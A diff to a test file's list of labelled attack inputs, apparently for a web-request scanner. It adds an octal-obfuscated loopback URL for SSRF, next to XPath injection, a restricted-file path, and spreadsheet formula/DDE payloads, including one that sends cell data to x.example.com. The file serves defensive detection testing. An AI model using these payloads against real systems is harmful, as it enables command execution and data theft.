@@ -129,6 +129,7 @@ CASES = [
     ("query", "')] | //user/*[contains(*,'", "xpath_injection"),
     ("path", "/WEB-INF/web.xml", "restricted_file"),
     ("query", "=cmd|' /C calc'!A0", "formula_injection"),
+    ("query", "http://017700000001/", "url_obfuscated_host"),
     ("query", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_injection"),
     ("body", '=HYPERLINK("http://x.example.com?x="&A1&A2,"Error")', "formula_injection"),
     ("query", 'DDE ("cmd";"/C calc";"!A0")A0', "formula_injection"),
